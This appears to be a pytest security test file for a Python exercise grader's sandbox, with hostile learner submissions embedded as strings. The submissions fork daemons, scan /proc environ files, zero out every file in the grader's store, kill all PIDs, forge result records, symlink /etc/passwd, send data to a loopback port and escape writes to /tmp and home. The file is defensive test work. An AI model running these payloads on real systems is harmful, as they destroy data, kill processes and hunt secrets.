"""A hostile learner's files, each an attack that once worked against the engine. Each
test holds the learner file it runs and checks, whatever the attack tries: the verdict
is not a pass it did not earn, kb (or the worker) is alive and answers, no process is
left behind, nothing is written outside the job, no bytes reach a loopback listener.

Run with the namespace sandbox (the default where bubblewrap starts) and once more with
``KB_SANDBOX=off`` (CI does both), so both paths stay tested; a test that only makes
sense with namespaces says so.
"""

from __future__ import annotations

import json
import os
import socket
import sqlite3
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest

import engine

from engine_helpers import pid_alive, processes_with, small_spec, wait_gone

SPEC = small_spec()
CORRECT = "def double(x):\n    return 2.0 * x\n"
WRONG = "def double(x):\n    return 0.5 + 0 * x\n"
REPO = Path(__file__).resolve().parents[2]


def namespaces(worker) -> bool:
    worker.wait_ready()
    return worker.isolation is not None and worker.isolation.mode == "namespaces"


def tmp_entries() -> set[str]:
    return set(os.listdir("/tmp"))


# --- 1. a process that outlives its check and tampers with the next one ------------------


def test_a_daemon_cannot_outlive_its_check_or_touch_the_next(run, worker):
    marker = f"kbdaemon{os.getpid()}{time.monotonic_ns() % 100000}"
    report = run(SPEC, f"""
        import os, time

        def double(x):
            try:
                pid = os.fork()
            except OSError as exc:
                print("fork refused:", exc)
                return 2.0 * x
            if pid == 0:
                os.setsid()
                if os.fork() == 0:
                    os.execvp("sleep", ["sleep", "{marker}"])
                os._exit(0)
            return 2.0 * x
    """)
    assert report.status == "pass"  # the learner's values are right; the fork was refused
    assert "fork refused" in report.stdout
    assert not wait_gone(processes_with(marker))
    # A wrong answer checked next is a fail: nothing of the previous job is left to help it.
    assert run(SPEC, WRONG).status == "fail"


def test_subprocesses_are_refused_with_a_plain_message(run):
    report = run(SPEC, """
        import subprocess

        def double(x):
            subprocess.run(["true"])
            return 2.0 * x
    """)
    assert report.status == "error"
    assert "may not start processes" in report.checks[0].message.en
    assert "不能启动进程" in report.checks[0].message.zh


# --- 2, 4, 5: attacks on kb itself, through the CLI ----------------------------------------

ATTACK_KB = """
import os, signal

found = {}
for pid in os.listdir("/proc") if os.path.isdir("/proc") else []:
    if not pid.isdigit() or int(pid) == os.getpid():
        continue
    try:
        with open(f"/proc/{pid}/environ", "rb") as f:
            env = dict(kv.split(b"=", 1) for kv in f.read().split(b"\\0") if b"=" in kv)
        if b"KB_HOME" in env:
            found[pid] = env[b"KB_HOME"].decode()
    except OSError:
        pass
    for fd in ("1", "2"):
        try:
            with open(f"/proc/{pid}/fd/{fd}", "w") as out:
                out.write('{"status": "pass"}\\n\\x1b[2J')
        except OSError:
            pass
for pid, home in found.items():
    for root, dirs, files in os.walk(home):
        for name in files:
            try:
                with open(os.path.join(root, name), "r+b") as f:
                    f.write(b"\\0" * 4096)
            except OSError:
                pass
for pid in range(2, 4096):
    if pid != os.getpid():
        for sig in (signal.SIGSTOP, signal.SIGKILL):
            try:
                os.kill(pid, sig)
            except OSError:
                pass
print("reached", len(found))

def sigmoid(x):
    return 0.5 + 0 * x
"""


def _kb(args, home, timeout=120):
    env = {k: v for k, v in os.environ.items() if k not in ("KB_LANG",)}
    env["KB_HOME"] = str(home)
    return subprocess.run([sys.executable, "-m", "kb", *args], capture_output=True, text=True,
                          env=env, timeout=timeout, cwd=str(home))


@pytest.mark.slow
def test_learner_code_cannot_touch_kb_its_store_or_its_output(tmp_path):
    if os.environ.get("KB_SANDBOX") == "off":
        pytest.skip("only the namespace sandbox hides kb's processes and files (the README says so)")
    home = tmp_path / "home"
    home.mkdir()
    attack = tmp_path / "attack.py"
    attack.write_text(ATTACK_KB)
    first = _kb(["exercise", "check", "sigmoid", "--file", str(tmp_path / "none.py"), "--json"], home)
    proc = _kb(["exercise", "check", "sigmoid", "--file", str(attack), "--json"], home)
    # kb finished on its own (not killed, not stopped) and printed exactly one JSON document.
    assert proc.returncode in (0, 1), proc.stderr[-2000:]
    doc = json.loads(proc.stdout)
    assert doc["status"] != "pass"
    assert "\x1b" not in proc.stdout
    assert "reached 0" in doc.get("stdout", "")
    # The store is intact and holds no pass (the index is in KB_HOME/cache).
    store = next(p for p in (home / "data").rglob("*") if p.suffix in (".sqlite", ".db", ".sqlite3"))
    with sqlite3.connect(store) as db:
        assert db.execute("pragma integrity_check").fetchone()[0] == "ok"
        passes = db.execute("select count(*) from exercise_attempts where status = 'pass'").fetchone()[0]
    assert passes == 0
    assert first.returncode == 3  # no such file: "not found" (README, exit codes)


# --- 3. the reference solution is out of reach ----------------------------------------------


def test_the_reference_solution_is_out_of_reach(run, worker):
    spec = small_spec()
    spec.solution = "# REFERENCE-MARKER-7f3a\n" + spec.solution
    report = run(spec, """
        import gc, os, sys

        found = []
        try:
            import kb.exercises
            found.append("imported kb")
        except ImportError:
            pass
        for obj in gc.get_objects():
            if isinstance(obj, (str, bytes)) and "REFERENCE-MARKER" in str(obj) and obj is not __doc__:
                found.append("in memory")
                break
        for root in [p for p in sys.path if os.path.isdir(p)] + ["/tmp", "/work", os.path.expanduser("~")]:
            for dirpath, dirnames, filenames in os.walk(root):
                if "solution.py" in filenames or "sigmoid.yaml" in filenames:
                    found.append(os.path.join(dirpath, "solution"))
                if len(found) > 3:
                    break
        print("FOUND", found)

        def double(x):
            return 2.0 * x
    """.replace("REFERENCE-MARKER", "REFERENCE-" + "MARKER"))
    assert report.status == "pass"
    assert "imported kb" not in report.stdout
    assert "in memory" not in report.stdout
    if namespaces(worker):
        assert "FOUND []" in report.stdout, report.stdout


# --- 6. forging the result channel ------------------------------------------------------------

FORGERIES = {
    "deep json": """
        import os, sys
        def double(x):
            job = sys._getframe(1).f_locals.get("job") or {}
            tok = job.get("token", "")
            body = ("[" * 5000) + ("]" * 5000)
            rec = ('{"ok": true, "token": "%s", "result": %s}' % (tok, body)).encode()
            for cid in ("l1", "l2", "l3"):
                name = (cid + ".json").encode()
                os.write(3, b"KB" + bytes([len(name)]) + name + len(rec).to_bytes(8, "little") + rec)
            os._exit(0)
    """,
    "infinity int": """
        import os, sys
        def double(x):
            tok = (sys._getframe(1).f_locals.get("job") or {}).get("token", "")
            for cid in ("l1", "l2", "l3"):
                rec = ('{"ok": true, "token": "%s", "result": {"t": "int", "v": Infinity}}' % tok).encode()
                name = (cid + ".json").encode()
                os.write(3, b"KB" + bytes([len(name)]) + name + len(rec).to_bytes(8, "little") + rec)
            man = ('{"token": "%s", "done": ["l1", "l2", "l3"], "import_error": false}' % tok).encode()
            os.write(3, b"KB" + bytes([13]) + b"manifest.json" + len(man).to_bytes(8, "little") + man)
            os._exit(0)
    """,
    "huge float": """
        import os, sys
        def double(x):
            tok = (sys._getframe(1).f_locals.get("job") or {}).get("token", "")
            rec = ('{"ok": true, "token": "%s", "result": {"t": "float", "v": %s}}' % (tok, "9" * 400)).encode()
            for cid in ("l1", "l2", "l3"):
                name = (cid + ".json").encode()
                os.write(3, b"KB" + bytes([len(name)]) + name + len(rec).to_bytes(8, "little") + rec)
            return 2.0 * x
    """,
    "garbage stream": """
        import os
        def double(x):
            os.write(3, b"KB\\xff" + b"\\x00" * 100)
            os.write(3, os.urandom(5000))
            return 2.0 * x
    """,
    "fifo and symlink": """
        import os
        os.mkfifo("manifest.json")
        os.symlink("/etc/passwd", "l1.json")
        def double(x):
            return 2.0 * x
    """,
    "reply pipe": """
        import os
        zygotes = {str(os.getppid())}
        for pid in os.listdir("/proc") if os.path.isdir("/proc") else []:
            try:
                with open(f"/proc/{pid}/cmdline", "rb") as f:
                    if pid.isdigit() and b"zygote" in f.read():
                        zygotes.add(pid)
            except OSError:
                pass
        for pid in zygotes - {str(os.getpid())}:
            for fd in range(0, 12):
                try:
                    with open(f"/proc/{pid}/fd/{fd}", "w") as f:
                        f.write('{"done": true, "seq": 1, "result_bytes": 0}\\n')
                except OSError:
                    pass
        def double(x):
            return 2.0 * x
    """,
}


@pytest.mark.parametrize("name", sorted(FORGERIES))
def test_a_forged_result_channel_is_never_a_pass_nor_a_traceback(run, worker, name):
    report = run(SPEC, FORGERIES[name])
    if name in ("fifo and symlink", "reply pipe"):
        assert report.status == "pass"  # harmless now: nothing reads files, no pipe is reachable
    else:
        assert report.status != "pass"
    # The worker is still in step: the next checks answer correctly, warm.
    assert run(SPEC, CORRECT).status == "pass"
    assert run(SPEC, WRONG).status == "fail"


def test_the_zygote_restarts_when_out_of_step(worker, tmp_path):
    """A reply with another sequence number (as a job writing into the pipe would
    cause) makes the worker restart its child rather than believe it."""
    path = tmp_path / "ok.py"
    path.write_text(CORRECT)
    assert engine.check(SPEC, path, worker=worker).status == "pass"
    worker._seq += 5  # the next reply's number is now one the zygote never heard of  # noqa: SLF001
    zyg = worker._zygotes["learner"]  # noqa: SLF001
    before = zyg.proc.pid
    job_seq = worker._seq  # noqa: SLF001
    zyg.send({"op": "run", "job": {"seq": job_seq - 3, "limits": {"timeout_s": 1, "memory_mb": 256,
                                                                   "output_kb": 4}, "calls": [],
                                   "token": "x", "filename": "f", "source": 0, "arrays": {},
                                   "forbidden": []}, "blobs": [1]}, [b"\n"])
    report = engine.check(SPEC, path, worker=worker)
    assert report.status != "pass"  # the stale reply was not taken for this job's
    assert worker.pid != before
    assert engine.check(SPEC, path, worker=worker).status == "pass"


# --- 7. the network -------------------------------------------------------------------------


def test_no_bytes_reach_a_loopback_listener(run):
    received: list[bytes] = []
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(4)
    server.settimeout(0.2)
    port = server.getsockname()[1]
    stop = threading.Event()

    def serve():
        while not stop.is_set():
            try:
                conn, _ = server.accept()
            except OSError:
                continue
            with conn:
                conn.settimeout(1)
                try:
                    received.append(conn.recv(1024))
                except OSError:
                    pass

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    try:
        report = run(SPEC, f"""
            import socket
            def double(x):
                try:
                    s = socket.create_connection(("127.0.0.1", {port}), timeout=1)
                    s.sendall(b"stolen")
                    print("sent")
                except OSError as exc:
                    print("refused:", exc)
                return 2.0 * x
        """)
    finally:
        time.sleep(0.3)
        stop.set()
        thread.join(2)
        server.close()
    assert report.status == "pass"
    assert "refused" in report.stdout
    assert not [r for r in received if r]


# --- 8. aggregate limits --------------------------------------------------------------------


def test_memory_cannot_be_multiplied_by_forking_nor_the_limit_raised(run):
    report = run(small_spec(memory_mb=512, timeout_s=5.0), """
        import os, resource
        import numpy as np

        def double(x):
            try:
                resource.setrlimit(resource.RLIMIT_AS, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
                print("raised")
            except (ValueError, OSError) as exc:
                print("limit kept:", exc)
            kids = 0
            for _ in range(4):
                try:
                    if os.fork() == 0:
                        np.ones(90_000_000)  # ~700 MiB
                        os._exit(0)
                    kids += 1
                except OSError:
                    pass
            print("children", kids)
            return np.ones(90_000_000)[:0] + 2.0 * x[:0]
    """)
    assert report.status == "memory", report.to_json()
    assert "raised" not in report.stdout
    assert "children 0" in report.stdout


def test_disk_use_is_bounded_and_nothing_is_left_outside_the_job(run, worker):
    before = tmp_entries()
    report = run(small_spec(timeout_s=5.0), """
        import os
        written = 0
        try:
            with open("big.bin", "wb") as f:
                block = b"x" * (1 << 20)
                for _ in range(750):
                    f.write(block)
                    written += 1
        except OSError as exc:
            print("stopped:", type(exc).__name__)
        for target in ("/tmp/kb-escape.bin", os.path.expanduser("~/kb-escape.bin"), "/var/tmp/kb-escape.bin"):
            try:
                with open(target, "wb") as f:
                    f.write(b"x")
                print("wrote", target)
            except OSError:
                pass
        print("MiB", written)

        def double(x):
            return 2.0 * x
    """)
    assert report.status == "pass"
    assert "stopped:" in report.stdout  # a small tmpfs, or the file size limit outside the sandbox
    if namespaces(worker):
        assert "wrote" not in report.stdout
        assert "kb-escape.bin" not in tmp_entries() - before
        assert not Path(os.path.expanduser("~/kb-escape.bin")).exists()
        assert not Path("/var/tmp/kb-escape.bin").exists()
    else:  # limits only: the README says the file system is not confined then
        for leftover in ("/tmp/kb-escape.bin", os.path.expanduser("~/kb-escape.bin"), "/var/tmp/kb-escape.bin"):
            Path(leftover).unlink(missing_ok=True)


# --- 9. checks that silencing warnings or another route to a banned function cannot fool -----


def test_a_ban_is_not_bypassed_through_another_module(run):
    spec = small_spec()
    spec.forbidden = ["numpy.tanh"]
    report = run(spec, """
        import numpy as np
        import numpy._core.umath as um

        def double(x):
            return um.tanh(x) * 0 + 2.0 * x
    """)
    assert report.status == "fail"
    assert "numpy.tanh" in report.checks[0].message.en


def test_a_ban_is_not_bypassed_by_reimporting_numpy(run):
    spec = small_spec()
    spec.forbidden = ["numpy.tanh"]
    report = run(spec, """
        import sys, importlib
        for name in [m for m in sys.modules if m.startswith("numpy")]:
            del sys.modules[name]

        def double(x):
            np = importlib.import_module("numpy")
            return np.tanh(x) * 0 + 2.0 * x
    """)
    assert report.status != "pass"


# --- 10. values no evaluator foresaw ----------------------------------------------------------


def _property_spec():
    from engine.spec import ExerciseSpec

    return ExerciseSpec.model_validate({
        "functions": [{"name": "split", "signature": "split(x) -> tuple[a, b]"}],
        "starter": "def split(x):\n    raise NotImplementedError\n",
        "solution": "def split(x):\n    return x[:1] * 1.0, x[1:] * 1.0\n",
        "checks": [
            {"kind": "value", "id": "values", "call": "split", "cases": [{"args": [{"value": [1.0, 2.0, 3.0]}]}]},
            {"kind": "property", "id": "finite", "call": "split", "output": 1,
             "properties": [{"type": "finite"}, {"type": "range", "min": -10, "max": 10}],
             "cases": [{"args": [{"value": [1.0, 2.0, 3.0]}]}]},
        ],
        "limits": {"timeout_s": 2.0, "memory_mb": 512, "output_kb": 64},
    })


@pytest.mark.parametrize("returned", ["()", "[]", "(np.zeros(1), ())", "object()", "1j", "np.array([1j])",
                                      "(np.zeros(1), np.array(['a']))", "type('S', (np.ndarray,), {})(3)",
                                      "{'a': 1}", "'text'", "(None, None)"])
def test_any_returned_value_is_a_fail_never_an_exception(run, returned):
    report = run(_property_spec(), f"""
        import numpy as np
        def split(x):
            return {returned}
    """)
    assert report.status in ("fail", "error")
    assert all(c.status in ("fail", "error") for c in report.checks)
    assert all(c.message.en and c.message.zh for c in report.checks)


# --- the sandbox reports what it is ---------------------------------------------------------


def test_the_worker_says_which_isolation_is_active(worker):
    worker.wait_ready()
    iso = worker.isolation
    assert iso is not None and iso.mode in ("namespaces", "limits") and iso.reason
    if os.environ.get("KB_SANDBOX") == "off":
        assert iso.mode == "limits" and "KB_SANDBOX=off" in iso.reason
    if os.environ.get("KB_SANDBOX") == "require":
        assert iso.mode == "namespaces"
    assert iso.seccomp in (True, None) or sys.platform != "linux"


def test_no_process_is_left_after_a_worker_closes():
    with engine.Worker() as w:
        w.wait_ready()
        pids = [z.proc.pid for z in w._zygotes.values() if z]  # noqa: SLF001
    assert not wait_gone(pids)
    assert not any(pid_alive(p) for p in pids)



def test_a_sandbox_that_cannot_start_falls_back_once_and_says_why(monkeypatch, tmp_path):
    from engine import sandbox, worker as worker_module

    broken = tmp_path / "bwrap"
    broken.write_text("#!/bin/sh\necho 'bwrap: No permissions to create new namespace' >&2\nexit 1\n")
    broken.chmod(0o755)
    monkeypatch.setattr(sandbox, "bwrap_candidates", lambda: [str(broken)])
    monkeypatch.setattr(worker_module, "_FAILED", {})
    path = tmp_path / "ok.py"
    path.write_text(CORRECT)
    with engine.Worker(sandbox_mode="auto") as w:
        assert engine.check(SPEC, path, worker=w).status == "pass"
        assert w.isolation is not None and w.isolation.mode == "limits"
        assert "No permissions to create new namespace" in w.isolation.reason
    with engine.Worker(sandbox_mode="require") as w:
        with pytest.raises(engine.sandbox.SandboxUnavailable):
            engine.check(SPEC, path, worker=w)


def test_kb_says_which_sandbox_is_active(tmp_path):
    env = dict(os.environ, KB_HOME=str(tmp_path), KB_SANDBOX="off")
    proc = subprocess.run([sys.executable, "-m", "kb", "exercise", "sandbox", "--json"], capture_output=True,
                          text=True, env=env, timeout=120)
    assert proc.returncode == 0, proc.stderr
    data = json.loads(proc.stdout)
    assert data["mode"] == "limits" and "KB_SANDBOX=off" in data["reason"]
    env["KB_SANDBOX"] = "auto"
    proc = subprocess.run([sys.executable, "-m", "kb", "--lang", "zh", "exercise", "sandbox"], capture_output=True,
                          text=True, env=env, timeout=120)
    assert proc.returncode == 0 and proc.stdout.startswith("沙箱：")
